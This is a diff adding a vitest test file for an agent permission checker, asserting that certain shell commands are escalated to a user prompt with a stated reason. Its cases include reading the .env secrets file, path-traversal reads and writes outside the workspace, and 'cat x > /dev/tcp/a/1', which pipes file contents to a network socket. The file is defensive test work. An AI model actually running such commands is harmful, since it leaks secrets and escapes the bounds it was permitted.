@@ -1,0 +1,24 @@
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { bash, decide, project } from "../kit.js";
+
+let world: Awaited<ReturnType<typeof project>>;
+beforeAll(async () => {
+  world = await project();
+});
+afterAll(() => world.close());
+
+const ALL = { allow: ["Bash(*)"] };
+
+test.each([
+  ["cat .env", {}, 'reads "'],
+  ["echo x > src/b", {}, "no file rule allows"],
+  ["cat ../outside/x", {}, "reads outside the workspace"],
+  ["cat x > /dev/tcp/a/1", ALL, "connects the shell itself"],
+  ["echo x > ../outside/y", ALL, "writes outside the workspace"],
+  ["cat out/../../x", {}, "reads outside the workspace"],
+])("%s asks, and says why", async (line, rules, reason) => {
+  expect(await decide({ workspace: world.workspace, rules }, bash(line))).toMatchObject({
+    behavior: "ask",
+    reason: expect.stringContaining(reason),
+  });
+});
